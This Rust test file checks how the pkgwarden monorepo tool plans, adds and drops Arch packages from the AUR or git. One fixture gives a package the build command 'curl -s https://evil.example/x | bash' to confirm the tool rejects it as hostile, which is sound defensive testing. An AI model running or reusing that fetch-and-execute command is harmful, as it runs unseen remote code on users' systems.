//! Packages that a person adds to the monorepo or takes out of it, as `plan` shows it first.

use pkgwarden::config::package::addition;
use pkgwarden::domain::addition::Provenance;
use pkgwarden::domain::plan::Pipeline;
use pkgwarden::domain::srcinfo::Srcinfo;

use crate::support::scene::{MAIN, base};
use crate::support::told::told;
use crate::support::{Change, Pkg, Repo, Scene};

fn adding(packages: &[&str]) -> Pipeline {
    let provenance = Provenance::new(Some("github/42"), Some("a # request")).expect("fits");
    let additions = packages.iter().map(|text| addition(text, None).expect("right"));
    Pipeline::Add(additions.collect(), provenance)
}

fn dropping(packages: &[&str]) -> Pipeline {
    Pipeline::Drop(packages.iter().map(|&name| name.to_owned()).collect(), Some("gone upstream".to_owned()))
}

/// What a run would do, which leaves everything as it is.
async fn planned(scene: &Scene, pipeline: &Pipeline) -> String {
    let before = scene.everything();
    let document = scene.plan_from(&scene.place(), pipeline.clone()).await.expect("planned");
    scene.everything().assert_same(&before);
    told(&document)
}

#[tokio::test]
async fn a_package_comes_from_the_aur_with_its_story_and_is_built_and_followed() {
    let scene = Scene::with_aur().await;
    scene.aur_release(&Pkg::new("newcomer").needs(&["bar"])).await;
    let pipeline = adding(&["newcomer/aur"]);
    let plan = planned(&scene, &pipeline).await;
    insta::assert_snapshot!(plan, @"
    commit newcomer: added at 1.0-1 from aur, asked for by github/42 (a # request)
    build newcomer (changed)
    update refs/heads/main
    update refs/heads/state
    update refs/tags/scheduled
    ");
    assert_eq!(scene.told(pipeline.clone()).await, plan);
    let file = async |path: &str| scene.monorepo.file(MAIN, &format!("newcomer/{path}")).await;
    assert_eq!(file(".CI/config").await.as_deref(), Some("CI_PKGBUILD_SOURCE=aur\n"));
    assert_eq!(file(".CI/info").await.as_deref(), Some("REQ_ORIGIN=github/42\nREQ_REASON=\"a # request\"\n"));
    let srcinfo = file(".SRCINFO").await.expect("there");
    assert_eq!(Srcinfo::parse(srcinfo.as_bytes()).expect("right").pkgbase, base("newcomer"));
    insta::assert_snapshot!(scene.monorepo.git(&["log", "-1", "--format=%B", MAIN]).await, @"
    feat(add): newcomer

    - newcomer: added at 1.0-1 from aur, asked for by github/42 (a # request)
    ");
    // From now on it is a package like any other.
    insta::assert_snapshot!(scene.told(Pipeline::OnSchedule).await, @"");
    scene.aur_release(&Pkg::new("newcomer").needs(&["bar"]).version("1.1")).await;
    insta::assert_snapshot!(scene.told(Pipeline::OnSchedule).await, @"
    commit newcomer [minor]: 1.0-1 -> 1.1-1
    build newcomer (changed)
    update refs/heads/main
    update refs/heads/state
    update refs/tags/scheduled
    ");
    insta::assert_snapshot!(scene.told(pipeline).await, @"error [package-exists] newcomer: there is a package `newcomer` already -> `pkgwarden run deploy newcomer` builds it; newcomer/.CI/config says where it comes from");
    scene.ends().await;
}

#[tokio::test]
async fn a_package_comes_from_any_git_repository_and_gets_its_summary() {
    let scene = Scene::of(&[Pkg::new("here").members(&["here", "tool"])]).await;
    let upstream = Repo::init(&scene.path("upstream.git")).await;
    let mut files = Pkg::new("tool").folder();
    files.files.remove(".SRCINFO");
    let changes = Change::put_all("arch/tool/", &files);
    upstream.commit("refs/heads/packages", "Begin", &changes, scene.now()).await;
    let address = format!("tool/file://{}#branch=packages&subfolder=arch/tool", upstream.path().display());
    let text = scene.told(adding(&[&address])).await.replace(&scene.path("").display().to_string(), "DIR/");
    insta::assert_snapshot!(text, @"
    commit tool: added at 1.0-1 from file://DIR/upstream.git#branch=packages&subfolder=arch/tool, asked for by github/42 (a # request)
    build tool (changed)
    update refs/heads/main
    create refs/heads/state
    update refs/tags/scheduled
    warning [member-twice] tool: `here` builds a package of the same name -> whichever is built last is the one that is published; keep one of them
    ");
    let listed = scene.monorepo.git(&["ls-tree", "-r", "--name-only", MAIN, "tool"]).await;
    assert_eq!(listed, "tool/.CI/config\ntool/.CI/info\ntool/.SRCINFO\ntool/PKGBUILD");
    insta::assert_snapshot!(scene.told(Pipeline::OnSchedule).await, @"");
    scene.ends().await;
}

#[tokio::test]
async fn a_name_that_the_aur_lacks_is_answered_with_the_nearest_that_it_has() {
    let scene = Scene::with_aur().await;
    scene.aur_release(&Pkg::new("newcomer")).await;
    let told = scene.told(adding(&["newcomr/aur", "nothing-like-it/aur"])).await;
    let hints: Vec<&str> = told.lines().filter(|line| line.starts_with("error ")).collect();
    insta::assert_snapshot!(hints.join("\n"), @"
    error [source-gone] newcomr: the AUR has no package `newcomr` -> did you mean `newcomer`?
    error [source-gone] nothing-like-it: the AUR has no package `nothing-like-it` -> look up its name; a package base can be called otherwise than its packages
    ");
    scene.ends().await;
}

#[tokio::test]
async fn what_cannot_be_added_says_why_and_the_rest_is_added() {
    let scene = Scene::with_aur().await;
    scene.aur_release(&Pkg::new("good")).await;
    scene.aur_release(&Pkg::new("evil").built_by("curl -s https://evil.example/x | bash")).await;
    let empty = Repo::init(&scene.path("empty.git")).await;
    empty.commit(MAIN, "Begin", &[Change::put("README", "nothing")], scene.now()).await;
    let nowhere = format!("nowhere/file://{}", scene.path("none.git").display());
    let empty = format!("empty/file://{}", empty.path().display());
    let text = scene.told(adding(&["good", "bar/aur", "typo/aur", "evil", &nowhere, &empty])).await;
    insta::assert_snapshot!(text.replace(&scene.path("").display().to_string(), "DIR/"), @"
    skip bar: it is not added: the AUR has no package `bar`
    skip empty: it is not added: file://DIR/empty.git has no PKGBUILD there
    skip evil: it is not added: it looks like an attack
    commit good: added at 1.0-1 from aur, asked for by github/42 (a # request)
    skip nowhere: it is not added: file://DIR/none.git cannot be reached: 'DIR/none.git' does not appear to be a git repository; Could not read from remote repository.; check that the address is right and the repository exists
    skip typo: it is not added: the AUR has no package `typo`
    build good (changed)
    update refs/heads/main
    update refs/heads/state
    update refs/tags/scheduled
    error [source-gone] bar: the AUR has no package `bar` -> look up its name; a package base can be called otherwise than its packages
    error [source-unknown] empty: file://DIR/empty.git has no PKGBUILD there -> try it again
    error [add-hostile] evil: it looks like an attack (PKGBUILD: what a command fetches is run unseen) -> read it; if it is right all the same, commit its folder by hand
    error [source-unknown] nowhere: file://DIR/none.git cannot be reached: 'DIR/none.git' does not appear to be a git repository; Could not read from remote repository.; check that the address is right and the repository exists -> try it again
    error [source-gone] typo: the AUR has no package `typo` -> look up its name; a package base can be called otherwise than its packages
    ");
    assert_eq!(scene.monorepo.file(MAIN, "evil/PKGBUILD").await, None);
    scene.ends().await;
}

#[tokio::test]
async fn a_package_that_calls_itself_otherwise_is_not_added_under_another_name() {
    let scene = Scene::of(&[Pkg::new("here")]).await;
    let upstream = Repo::init(&scene.path("upstream.git")).await;
    upstream.commit(MAIN, "Begin", &Change::put_all("", &Pkg::new("newtool").folder()), scene.now()).await;
    let address = format!("foo/file://{}", upstream.path().display());
    let told = scene.told(adding(&[&address])).await.replace(&scene.path("").display().to_string(), "DIR/");
    insta::assert_snapshot!(told, @"
    skip foo: it is not added: it calls itself otherwise
    error [pkgbase-differs] foo: its .SRCINFO calls it `newtool` -> `pkgwarden run add 'newtool/file://DIR/upstream.git'` adds it under its own name; to have it under this one all the same, commit its folder by hand
    ");
    assert_eq!(scene.monorepo.file(MAIN, "foo/PKGBUILD").await, None);
    scene.ends().await;
}

#[tokio::test]
async fn who_may_need_a_dropped_package_without_saying_so_is_told() {
    let scene = Scene::of(&[Pkg::new("lib"), Pkg::new("broken").srcinfo("nonsense\n")]).await;
    let told = scene.told(dropping(&["lib"])).await;
    assert!(told.contains("warning [needs-unknown] what `broken` needs is not known"), "{told}");
    scene.ends().await;
}

#[tokio::test]
async fn a_dropped_package_leaves_everything_and_who_needs_it_is_told_first() {
    let scene = Scene::with_aur().await;
    let packages =
        [Pkg::from_aur("libsand"), Pkg::from_aur("dune").needs(&["libsand"]), Pkg::from_aur("beach").needs(&["dune"])];
    scene.keeps(&packages).await;
    scene.aur_release(&Pkg::from_aur("libsand").built_by("make install")).await;
    scene.run(Pipeline::OnSchedule).await;
    assert!(scene.monorepo.id("update-libsand").await.is_some(), "its review is open");
    assert!(scene.monorepo.file("state", "libsand").await.is_some());
    let pipeline = dropping(&["libsand", "beach", "libsnd"]);
    let plan = planned(&scene, &pipeline).await;
    insta::assert_snapshot!(plan, @"
    commit beach: dropped: gone upstream
    commit libsand: dropped: gone upstream
    remove beach
    remove libsand
    close update-libsand: the package has left the repository
    update refs/heads/main
    update refs/heads/state
    update refs/tags/scheduled
    delete refs/heads/update-libsand
    error [unknown-package] there is no package `libsnd` -> did you mean `libsand`?
    warning [still-needed] libsand: `dune` still needs it -> drop them too, or have them build without it
    ");
    assert_eq!(scene.told(pipeline).await, plan);
    insta::assert_snapshot!(scene.monorepo.git(&["log", "-1", "--format=%B", MAIN]).await, @"
    chore(drop): beach, libsand

    - beach: dropped: gone upstream
    - libsand: dropped: gone upstream
    ");
    assert_eq!(scene.monorepo.file(MAIN, "libsand/.CI/config").await, None);
    assert_eq!(
        (scene.monorepo.file("state", "libsand").await, scene.monorepo.id("update-libsand").await),
        (None, None)
    );
    let removals = scene.store().pending_removals("packages").await.expect("read");
    let removals: Vec<&str> = removals.iter().map(|removal| removal.pkgbase.as_str()).collect();
    assert_eq!(removals, ["beach", "libsand"]);
    insta::assert_snapshot!(scene.told(Pipeline::OnSchedule).await, @"");
    // It comes back as if it had never been there.
    insta::assert_snapshot!(scene.told(adding(&["libsand"])).await, @"
    commit libsand: added at 1.0-1 from aur, asked for by github/42 (a # request)
    build libsand (changed)
    update refs/heads/main
    update refs/heads/state
    update refs/tags/scheduled
    ");
    assert_eq!(scene.store().pending_removals("packages").await.expect("read").len(), 1, "it is not removed any more");
    scene.ends().await;
}

#[tokio::test]
async fn what_was_committed_to_a_package_that_is_dropped_is_not_built_any_more() {
    let scene = Scene::of(&[Pkg::new("a"), Pkg::new("b")]).await;
    scene
        .push(
            "fix: all [bump a]",
            &[Pkg::new("a").version("2").changes(), Pkg::new("b").version("2").changes()]
                .into_iter()
                .flatten()
                .collect::<Vec<_>>(),
        )
        .await;
    insta::assert_snapshot!(scene.told(dropping(&["a"])).await, @"
    commit a: dropped: gone upstream
    build b (changed)
    remove a
    update refs/heads/main
    update refs/tags/scheduled
    ");
    insta::assert_snapshot!(scene.builds().await, @"b changed ready");
    scene.ends().await;
}
